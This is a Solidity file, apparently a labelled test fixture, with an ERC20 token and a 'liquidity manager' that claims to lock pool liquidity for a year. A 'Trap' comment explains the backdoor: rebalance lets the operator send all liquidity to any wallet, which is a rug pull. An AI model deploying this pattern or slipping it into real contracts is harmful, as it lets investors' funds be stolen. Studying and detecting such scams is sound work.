// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {EPair, IEPair, IEToken} from "./Pair.sol";

interface IEFactory {
    function getPair(address a, address b) external view returns (address);
}

/// Holds the pool's own tokens for a year. It also manages them: puts a part of the liquidity elsewhere, and that is not bound to the year.
contract ELiquidityManager {
    address public operator;
    address public token;
    uint256 public immutable unlocksAt;
    mapping(address => bool) public venues;

    event Rebalanced(uint256 bps, uint256 tokens, uint256 weth);

    constructor() {
        operator = msg.sender;
        unlocksAt = block.timestamp + 365 days;
    }

    function register() external {
        require(token == address(0), "registered");
        token = msg.sender;
    }

    function pool() public view returns (IEPair) {
        return IEPair(IEFactory(EPair.FACTORY).getPair(token, EPair.WETH));
    }

    function locked() external view returns (uint256) {
        return pool().balanceOf(address(this));
    }

    function withdraw(address to) external {
        require(msg.sender == operator && block.timestamp >= unlocksAt, "locked");
        pool().transfer(to, pool().balanceOf(address(this)));
    }

    function addVenue(address venue) external {
        require(msg.sender == operator, "operator");
        require(venue != operator, "venue");
        venues[venue] = true;
    }

    /// Moves some of the liquidity, as tokens and ether, to another venue.
    function rebalance(uint256 bps, address venue) external {
        require(msg.sender == operator && venues[venue] && bps <= 10_000, "rebalance");
        IEPair from = pool();
        from.transfer(address(from), (from.balanceOf(address(this)) * bps) / 10_000);
        (uint256 a, uint256 b) = from.burn(address(this));
        (uint256 tokens, uint256 weth) = from.token0() == token ? (a, b) : (b, a);
        IEToken(token).transfer(venue, tokens);
        IEToken(EPair.WETH).transfer(venue, weth);
        emit Rebalanced(bps, tokens, weth);
    }
}

// Trap: a plain token whose liquidity is with its "liquidity manager", locked for a year, except that the operator may move all of it to another venue, which is any account. Sprung by: operator.addVenue(another wallet), rebalance(10000, that wallet).
contract EManagedLiquidity is ERC20 {
    address public immutable liquidityManager;

    constructor(ELiquidityManager manager) ERC20("Protocol Owned", "POL") {
        liquidityManager = address(manager);
        manager.register();
        _mint(msg.sender, 1_000_000_000 ether);
    }
}
